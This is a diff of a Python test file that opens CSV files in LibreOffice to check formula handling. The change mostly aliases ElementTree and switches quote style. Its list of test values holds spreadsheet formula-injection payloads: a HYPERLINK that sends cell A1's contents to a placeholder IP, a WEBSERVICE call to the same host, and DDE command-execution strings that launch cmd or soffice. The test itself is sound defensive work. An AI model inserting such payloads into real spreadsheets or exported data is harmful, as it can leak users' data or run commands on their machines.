@@ -6,7 +6,7 @@ import re
 import shutil
 import subprocess
 from pathlib import Path
-from xml.etree import ElementTree
+from xml.etree import ElementTree as ET
 
 import pytest
 
@@ -19,8 +19,8 @@ pytestmark = [
 ]
 FORMULAS = [
     "=1+1",
-    "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"look\")",
-    "=WEBSERVICE(\"http://203.0.113.9/\")",
+    '=HYPERLINK("http://203.0.113.9/?"&A1,"look")',
+    '=WEBSERVICE("http://203.0.113.9/")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
@@ -35,10 +35,10 @@ FORMULAS = [
     "harmless;=1+1",
     "harmless\n=1+1",
     "harmless\t=1+1",
-    "\"=1+1",
+    '"=1+1',
     "'=1+1",
     "{=1+1}",
-    "=DDE(\"soffice\";\"x\";\"y\")",
+    '=DDE("soffice";"x";"y")',
     "%=1+1",
     "|=1+1",
 ]
@@ -54,7 +54,7 @@ _NS = {
 _FORMULA = f"{{{_NS['table']}}}formula"
 
 
-def opened(csv: Path, how: str, folder: Path) -> ElementTree.Element:
+def opened(csv: Path, how: str, folder: Path) -> ET.Element:
     """Open a file in the spreadsheet and give what it made of it."""
     assert SOFFICE
     profile = folder / "profile"
@@ -65,10 +65,10 @@ def opened(csv: Path, how: str, folder: Path) -> ElementTree.Element:
         ],
         check=True, capture_output=True, timeout=100,
     )  # fmt: skip
-    return ElementTree.parse(folder / f"{csv.stem}.fods").getroot()  # noqa: S314 - our own spreadsheet wrote it
+    return ET.parse(folder / f"{csv.stem}.fods").getroot()  # noqa: S314 - our own spreadsheet wrote it
 
 
-def formulas(sheet: ElementTree.Element) -> list[str]:
+def formulas(sheet: ET.Element) -> list[str]:
     cells = sheet.iter(f"{{{_NS['table']}}}table-cell")
     return [cell.attrib[_FORMULA] for cell in cells if _FORMULA in cell.attrib]
 
